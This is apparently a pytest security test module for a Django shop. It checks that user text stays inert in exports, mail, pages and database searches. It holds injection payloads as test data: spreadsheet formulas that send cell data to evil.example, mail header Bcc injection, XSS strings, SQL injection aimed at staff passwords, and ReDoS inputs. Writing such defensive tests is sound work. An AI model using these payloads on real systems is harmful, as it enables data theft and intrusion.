"""What people type goes into files, mails, pages and queries, and stays what it is: text (issue: input).

Types, sizes, encodings and unknown keys are in `tests/test_bad_input.py`.
"""

import csv
import io
import json
import re
from email import message_from_bytes
from html.parser import HTMLParser

import pytest
from django.contrib import admin
from django.core import mail
from django.db import connection
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from procrastinate.contrib.django.models import ProcrastinateJob
from rest_framework.test import APIClient

from apps.accounts.models import Address, Customer, StaffUser
from apps.accounts.tests.factories import StaffFactory
from apps.bundles.models import Bundle
from apps.catalog.models import Category, Product, Review
from apps.common import jobs
from apps.contact.models import ContactMessage
from apps.ops.tests.conftest import signed_in
from apps.orders.models import Order, OrderEvent, OrderLine
from apps.payments.models import Payment
from apps.shop.models import PayeeChange, ShopSettings
from apps.storefront_pages import index_html
from tests.test_routes import API, EVERYBODY
from tests.waiting import ends
from tests.world import WIRE_ADDRESS

pytestmark = pytest.mark.django_db
SHOP, ADMIN = "localhost", "admin.localhost"

# Spreadsheets.

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "|calc",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")', "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
    "\u200b=1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠x", 'x","=1+1', "x;=1+1", "x\n=1+1",
)  # fmt: skip
BEGINS_A_FORMULA = re.compile(r"^[\s\u200b\ufeff\x00-\x20]*[=+\-@|＝＋－＠]")


def spread(text: str, world) -> None:
    """Put a text into every field that takes text."""
    Customer.objects.filter(pk=world.customer.pk).update(name=text[:100])
    Order.objects.update(
        customer_name=text[:100], street=text, city=text[:100], state=text[:100], carrier=text[:80],
        tracking_number=text[:80], cancel_reason=text,
    )  # fmt: skip
    Product.objects.update(name=text[:160], description=text)
    Category.objects.update(name=text[:80], description=text)


def test_no_cell_of_the_orders_file_is_a_formula_in_any_program(world, api_as):
    """22 formulas in every text of an order, then the CSV file, parted as any program parts it: no cell begins one."""
    desk = api_as(world.staff)
    for formula in FORMULAS:
        spread(formula, world)
        content = b"".join(desk.get("/api/admin/orders/export").streaming_content).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(content, newline="")))
        assert len({len(row) for row in rows}) == 1, "a text has broken out of its cell"
        # Spreadsheet programs also split cells at semicolons or tabs in some locales; some end a line inside quotes.
        parts = [part for row in rows for cell in row for part in [cell, *re.split(r"[;\t\r\n]", cell)]]
        assert not [part for part in parts if BEGINS_A_FORMULA.match(part)], formula


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_of_the_catalogue_file_is_a_formula(kind, world):
    """22 formulas in every text of the catalogue, as CSV and XLSX: no cell is a formula or begins one."""
    operator = StaffFactory(is_staff=True, is_superuser=True)
    for formula in FORMULAS:
        spread(formula, world)
        answer = signed_in(operator).get(f"/django-admin/spreadsheet/catalogue.{kind}")
        content = answer.getvalue()
        if kind == "csv":
            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
            assert len({len(row) for row in rows}) == 1
            cells = [cell for row in rows for cell in row]
        else:
            sheet = load_workbook(io.BytesIO(content)).active
            assert all(cell.data_type != "f" for row in sheet for cell in row), formula
            cells = [cell.value for row in sheet for cell in row if isinstance(cell.value, str)]
        assert not [cell for cell in cells if BEGINS_A_FORMULA.match(cell)], formula


# Mail.

HEADERS = (
    "A\r\nBcc: victim@example.com", "A\nBcc: victim@example.com\n\nBuy!", "A\rTo: victim@example.com",
    "A\u2028Bcc: victim@example.com", "A\x85Bcc: victim@example.com", "A\x0bBcc: victim@example.com",
    "=?utf-8?q?A=0d=0aBcc:_victim@example.com?=", '"victim@example.com" <x>', "A, victim@example.com",
)  # fmt: skip


def run_jobs() -> None:
    """Run the queued mail jobs."""
    for job in ProcrastinateJob.objects.filter(queue_name="mail").order_by("pk"):
        jobs.app.tasks[job.task_name](**job.args)


@pytest.mark.parametrize("text", [*HEADERS[:2], *(pytest.param(text, marks=pytest.mark.long) for text in HEADERS[2:])])
def test_a_mail_goes_to_whom_it_is_for_and_has_no_header_of_the_senders(text, world, api, api_as):
    """Nine texts with mail headers in names, subjects, streets and notes: no mail has another recipient or header."""
    PayeeChange.objects.all().delete()
    ShopSettings.objects.update(email="shop@shop.example", name=text[:100])
    Customer.objects.filter(pk=world.customer.pk).update(name=text)
    sent = [
        api.post("/api/contact", {"name": text, "email": "a@example.com", "subject": text, "message": text}),
        api_as(world.customer).post(
            "/api/orders",
            {
                "items": [{"type": "product", "product": str(world.product), "quantity": 1}],
                "shippingAddress": {**WIRE_ADDRESS, "street": text, "city": text},
                "replacesWaiting": True,
            },
        ),
        api_as(world.staff).put(
            f"/api/admin/orders/{world.waiting}/status",
            {"status": "shipped", "carrier": text, "note": text, "confirmUnpaid": True, "reason": text},
        ),
        api_as(world.super_admin).put("/api/admin/shop", {"upiName": text[:50]}),
    ]
    assert [answer.status_code for answer in sent] == [201, 201, 200, 200]
    run_jobs()
    senders = {"a@example.com", "ravi@example.com"}
    ours = {"shop@shop.example", world.customer.email, world.super_admin.email, *senders}
    assert len(mail.outbox) >= 4
    for message in mail.outbox:
        assert set(message.recipients()) <= ours
        parsed = message_from_bytes(message.message().as_bytes())
        assert {"Bcc", "Cc"}.isdisjoint(parsed.keys())
        assert len(parsed.get_all("To")) == len(parsed.get_all("Subject")) == 1
        assert set(parsed.keys()) <= {
            "Content-Type", "MIME-Version", "Subject", "From", "To", "Message-ID", "Date", "Content-Transfer-Encoding",
        }  # fmt: skip


@pytest.mark.parametrize(
    "address",
    ["a@example.com\nBcc: v@example.com", "a@example.com,v@example.com", "a@example.com v@example.com",
     "<a@example.com>", "a@example.com\0", "a@exa\r\nmple.com", "a@example.com;v@example.com", '"a b"@example.com\n'],
)  # fmt: skip
def test_an_address_is_one_address(address, world, api):
    """Eight addresses that hold two, or a header, at sign-in, contact and reset: refused, or stored as one."""
    desk = APIClient(SERVER_NAME=ADMIN)
    for client, path, more in (
        (api, "/api/auth/send-otp", {}),
        (api, "/api/contact", {"name": "A", "subject": "B", "message": "C"}),
        (desk, "/api/admin/forgot-password", {}),
    ):
        answer = client.post(path, {"email": address, **more})
        assert answer.status_code == 400 or answer.json()["success"]
        if answer.status_code != 400:
            stored = ContactMessage.objects.values_list("email", flat=True)
            assert all(re.fullmatch(r"[^\s,;<>]+@[^\s,;<>]+", row) for row in stored)
    assert not ProcrastinateJob.objects.filter(args__icontains="v@example").exists()


# Pages.

MARK = "xss9"
SCRIPTS = (
    f"<script>{MARK}</script>", f"<img src=x onerror={MARK}>", f"</script><script>{MARK}</script>",
    f"<!--data--><script>{MARK}</script>", f"\"><svg onload={MARK}>", f"'><b onclick={MARK}>", f"]]><script>{MARK}",
    f"<!--head:end--><script>{MARK}</script>", f"{{{{{MARK}}}}}<script>", f"\u2028<script>{MARK}</script>",
    f"javascript:{MARK}", f"<a href=javascript:{MARK}>x</a>", f"\\u003cscript\\u003e{MARK}", f"&lt;script&gt;{MARK}<i>",
)  # fmt: skip
DATA_BLOCKS = {"application/json", "application/ld+json"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"}


class Browser(HTMLParser):
    """Parses a page like a browser and records what would run."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.runs: list[str] = []
        self.titles = 0
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        facts = {name: value or "" for name, value in attrs}
        self.titles += tag == "title"
        self._in_script = tag == "script" and facts.get("type") not in DATA_BLOCKS
        for name, value in facts.items():
            if name.startswith("on") or (
                name in ADDRESSES
                and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(("javascript:", "data:text"))
            ):
                self.runs.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.runs.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


@pytest.fixture
def hostile(world):
    """A shop with a script in every text."""

    def write(text: str) -> None:
        spread(text, world)
        Address.objects.update(street=text, city=text[:100], landmark=text)
        StaffUser.objects.exclude(is_superuser=True).update(name=text[:100])
        Bundle.objects.update(name=text[:100], description=text)
        OrderLine.objects.update(name=text, category_name=text[:80], contents=[{"name": text, "quantity": 1}])
        OrderEvent.objects.update(note=text, actor_name=text)
        Payment.objects.update(admin_notes=text, verified_by_name=text[:100])
        Review.objects.all().delete()
        Review.objects.create(product_id=world.product, customer=world.customer, rating=5, comment=text)
        ContactMessage.objects.all().delete()
        ContactMessage.objects.create(name=text[:100], email="a@example.com", subject=text, message=text)
        ShopSettings.objects.update(name=text[:100], tagline=text, about=text, address=text, promotion_title=text[:60])
        Category.objects.filter(pk=world.category).update(slug="sparklers")

    return write


@pytest.fixture
def shells(tmp_path, monkeypatch):
    html = "<html><head><!--head:start--><!--head:end--></head><body><!--data--></body></html>"
    for site in ("shop", "admin"):
        (tmp_path / site).mkdir()
        (tmp_path / site / "index.html").write_text(html)
    monkeypatch.setattr(index_html, "BUILD_FOLDERS", {site: tmp_path / site for site in ("shop", "admin")})


def test_the_browser_of_these_tests_sees_what_would_run():
    """Six scripts in a page that escapes nothing: the tests' own reader sees each, so the next two can fail."""
    for text in (*SCRIPTS[:3], SCRIPTS[4], SCRIPTS[5], SCRIPTS[11]):
        assert Browser(f'<p title="{text}">{text}</p>').runs, text


@pytest.mark.usefixtures("shells")
@pytest.mark.parametrize("scripts", [SCRIPTS[::3], pytest.param(SCRIPTS, marks=pytest.mark.long)], ids=["some", "all"])
def test_no_page_of_the_storefront_runs_what_people_wrote(scripts, hostile, world):
    """Scripts in every text of the shop, in queries and paths, on every page of the storefront: none would run."""
    browser = Client(SERVER_NAME=SHOP)
    for text in scripts:
        hostile(text)
        for path in ("/", "/products", "/categories", f"/products/{world.product}", "/faq", "/bundles", "/cart"):
            html = browser.get(path).content.decode()
            read = Browser(html)
            assert not read.runs, (text, path)
            assert read.titles == 1
            assert html.count("<script") == html.count("</script>") > 0
        for name in ("search", "category", "page", "sortBy", "unknown"):
            answer = browser.get("/products", {name: text})
            assert not Browser(answer.content.decode()).runs, (text, name)
        for path in (f"/{text}", f"/products/{text}", f"/admin/{text}"):
            assert not Browser(browser.get(path).content.decode()).runs, (text, path)


@pytest.mark.long
def test_no_page_of_the_operators_runs_what_people_wrote(hostile, world):
    """A script in every text, on every list, form and search of Django admin: it would not run."""
    text = f"<script>{MARK}</script>\"><svg onload={MARK}>'><b onclick={MARK}>"
    hostile(text)
    desk = signed_in(StaffFactory(is_staff=True, is_superuser=True, name="Selvi"))
    seen = 0
    for model in admin.site._registry:
        label = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        row = model._default_manager.order_by("-pk").first()
        addresses = [reverse(f"{label}_changelist"), f"{reverse(f'{label}_changelist')}?q={MARK}%22%3E%3Cscript%3E"]
        addresses += [reverse(f"{label}_change", args=[row.pk])] if row else []
        for address in addresses:
            answer = desk.get(address)
            if answer.status_code == 200:
                html = answer.content.decode()
                assert not Browser(html).runs, address
                assert text not in html or "<" not in text, address
                seen += MARK in html
    assert seen > 10


def test_every_answer_of_the_api_says_that_it_is_no_page(hostile, world, api_as):
    """Every GET of the API over hostile texts: JSON, CSV, PDF, PNG by its header, `nosniff`; a 404 repeats nothing."""
    hostile(SCRIPTS[0])
    for route in API:
        if route.method == "GET" and route.path != "api/docs":
            people = {EVERYBODY: world.customer, "customer": world.customer}
            client = api_as(people.get(route.rule, world.super_admin), host=route.hosts[-1])
            answer = route.send(client, world)
            kind = answer["Content-Type"].partition(";")[0]
            kinds = {"application/json", "text/csv", "application/pdf", "image/png", "application/vnd.oai.openapi+json"}
            assert kind in kinds, route.path
            assert answer["X-Content-Type-Options"] == "nosniff"
    refused = APIClient(SERVER_NAME=SHOP).get(f"/api/{SCRIPTS[0]}")
    assert (refused.status_code, refused["Content-Type"]) == (404, "application/json")
    assert MARK not in refused.content.decode()


# Queries.

SQL = (
    "'", "''", "\"", "';--", "' OR '1'='1", "1 OR 1=1", "') OR ('1'='1", "'; SELECT pg_advisory_lock(271828); --",
    "1;SELECT pg_advisory_lock(271828)",
    "' || pg_advisory_lock(271828) || '", "%' AND 1=0 UNION SELECT password FROM accounts_staffuser --",
    "$$;SELECT pg_advisory_lock(271828)$$",
    "\\' OR 1=1 --", "{{7*7}}", "${7*7}", "%s", "%(a)s", "%%", "_", "%", "\\", "\\\\", "*", "?", ":*", "&", "|",
    "!", "<->",
    "a & !b", "(", ")", "'a' <-> 'b'", "a:*B", "(a", "a)", "!!!", "& & &", "a\\'b", "::text", "E'\\x41'",
)  # fmt: skip


def locks_of_words() -> int:
    """How many locks the words above took. They outlive the statement that takes them, and its transaction."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid = 271828")
        return cursor.fetchone()[0]


@pytest.mark.long
def test_words_that_mean_something_to_a_database_mean_nothing_in_a_search(world, api, api_as):
    """41 pieces of SQL and search syntax in seven searches, six in sorting: nothing more found, none run, no error."""
    before = Product.objects.count()
    staff = api_as(world.staff)
    searches = (
        (api, "/api/products", "search"), (api, "/api/products/search", "q"), (api, "/api/products", "category"),
        (api, "/api/products", "subCategory"), (staff, "/api/admin/orders", "search"),
        (staff, "/api/admin/users", "search"), (api_as(world.customer), "/api/orders", "search"),
    )  # fmt: skip
    for client, path, name in searches:
        for word in SQL:
            answer = client.get(path, {name: word})
            assert answer.status_code in {200, 400}, (path, word, answer.content)
            assert "password" not in answer.content.decode()
            assert locks_of_words() == 0, (path, word)
    lock = "price,(SELECT pg_advisory_lock(271828))"
    for sort in ("price;DROP TABLE x", "(SELECT 1)", lock, "-password", "customer__email", "?"):
        for client, path in ((api, "/api/products"), (staff, "/api/admin/orders"), (staff, "/api/admin/users")):
            assert client.get(path, {"sortBy": sort}).status_code in {200, 400}
            assert locks_of_words() == 0, (path, sort)
        assert api.get("/api/products", {"sortBy": sort}).status_code == 400
    assert Product.objects.count() == before


@pytest.mark.parametrize("wild", ["%", "_", "%%%%", "_____", "\\"])
def test_a_wildcard_is_a_letter(wild, world, api_as):
    """`%`, `_` and `\\` as searches of orders and people: they find nothing, as letters would."""
    assert api_as(world.customer).get("/api/orders", {"search": wild}).json()["total"] == 0
    found = api_as(world.staff).get("/api/admin/users", {"search": wild}).json()
    assert found["total"] == 0


# Large inputs.

EVIL = (
    "a" * 120_000 + "!", "a@" * 40_000, "a." * 60_000 + "@", "@" * 120_000, "-" * 120_000 + "a", " " * 120_000 + "x",
    "1" * 120_000 + "x", "x@" + "a-" * 60_000, "x@" + "a." * 60_000, "http://" + "a" * 120_000, "\u0300" * 60_000,
    "ﷺ" * 36_000, "(" * 80_000, "\u0bbe\u0bcd" * 20_000, "aA" * 60_000, "[[[[" * 20_000, "\t\n" * 40_000,
)  # fmt: skip


@pytest.mark.long
def test_no_text_keeps_a_regular_expression_busy(world, api, api_as):
    """17 texts that make bad expressions work for hours, in every field and search: all calls are answered."""
    staff, customer = api_as(world.staff), api_as(world.customer)
    desk = APIClient(SERVER_NAME=ADMIN)
    address = dict.fromkeys(("street", "city", "state", "pincode", "landmark", "phoneNumber"))
    calls = [
        lambda t: api.post("/api/auth/send-otp", {"email": t}),
        lambda t: api.post("/api/auth/verify-otp", {"email": t, "otp": t, "name": t}),
        lambda t: api.post("/api/contact", dict.fromkeys(("name", "email", "subject", "message"), t)),
        lambda t: api.post("/api/orders/track", {"orderNumber": t, "email": t}),
        lambda t: desk.post("/api/admin/login", {"email": t, "password": t}),
        lambda t: desk.post("/api/admin/reset-password", {"otp": t, "newPassword": t, "email": t}),
        lambda t: api.get("/api/products", {"search": t[:8000], "category": t[:200]}),
        lambda t: api.get("/api/products/search", {"q": t[:8000]}),
        lambda t: customer.put("/api/auth/profile", dict.fromkeys(("name", "phoneNumber", "dateOfBirth"), t)),
        lambda t: customer.post("/api/addresses", dict.fromkeys(address, t)),
        lambda t: customer.get("/api/orders", {"search": t[:8000]}),
        lambda t: staff.get("/api/admin/users", {"search": t[:8000]}),
        lambda t: staff.get("/api/admin/orders", {"search": t[:8000], "dateFrom": t[:100]}),
        lambda t: staff.post("/api/categories", {"name": t, "slug": t, "description": t}),
        lambda t: api.get("/api/products", HTTP_AUTHORIZATION="Bearer " + t[:8000].encode("ascii", "ignore").decode(),
                          HTTP_IF_NONE_MATCH='"' + "a" * 8000, HTTP_X_REQUEST_ID="a" * 8000, HTTP_ACCEPT="a/b," * 2000),
    ]  # fmt: skip
    with ends("all calls"):
        for number, call in enumerate(calls):
            for text in EVIL:
                answer = call(text)
                assert answer.status_code < 500, (number, text[:9], answer.content[:300])
                assert answer.status_code != 413, (number, text[:9], "it reached no expression")


@pytest.mark.parametrize("depth", [200, 1100, 100_000])
def test_deep_json_is_refused_wherever_json_comes(depth, world, api_as):
    """JSON nested 200 to 100,000 deep, as a body, in a form, in a field: refused, never a crash."""
    client = api_as(world.customer)
    from tests.world import screenshot

    for deep in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
        answer = client.post("/api/orders", deep, content_type="application/json")
        assert answer.status_code in {400, 413}
        form = {"orderData": deep, "screenshot": screenshot()}
        assert client.post("/api/orders/create-manual-payment", form, format="multipart").status_code == 400
        inside = {"items": json.loads(deep) if depth == 200 else [], "shippingAddress": WIRE_ADDRESS}
        assert client.post("/api/orders", inside).status_code in {400, 409}
    staff = api_as(world.staff)
    nested = "[" * depth + "]" * depth
    body = '{"specifications": ' + nested + ', "name": "x"}'
    answer = staff.generic("PUT", f"/api/products/{world.product}", body, content_type="application/json")
    assert answer.status_code in {400, 413}


@pytest.mark.parametrize("limit", [0, -1, 101, 10**9, "1e2", "0x10", "１００", "100 ", "all", "NaN"])
def test_a_page_holds_a_hundred_at_most(limit, world, api, api_as):
    """Ten odd limits on seven lists: 400, and no page holds more than a hundred; a page beyond the last is empty."""
    for client, path in (
        (api, "/api/products"), (api_as(world.customer), "/api/orders"), (api_as(world.staff), "/api/admin/orders"),
        (api_as(world.staff), "/api/admin/users"), (api, f"/api/products/{world.product}/reviews"),
        (api, "/api/reviews/recent"), (api, "/api/products/featured"),
    ):  # fmt: skip
        answer = client.get(path, {"limit": limit})
        assert answer.status_code in ({200, 400} if str(limit).strip().isdecimal() and int(limit) == 100 else {400})
    assert api.get("/api/products", {"page": 10**6}).json()["products"] == []
    assert api.get("/api/products", {"page": 10**6 + 1}).status_code == 400


@hypothesis_settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(text=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60))
def test_a_text_comes_back_as_it_was_sent_or_is_refused(text, customer, api_as):
    """Sixty random texts of every script, marks and controls as a name: stored letter by letter, or a 400."""
    client = api_as(customer)
    answer = client.put("/api/auth/profile", {"name": text})
    stored = text.strip()
    if answer.status_code == 200:
        assert answer.json()["user"]["name"] == client.get("/api/auth/profile").json()["user"]["name"] == stored
    else:
        assert answer.status_code == 400
        assert not stored or "\0" in text
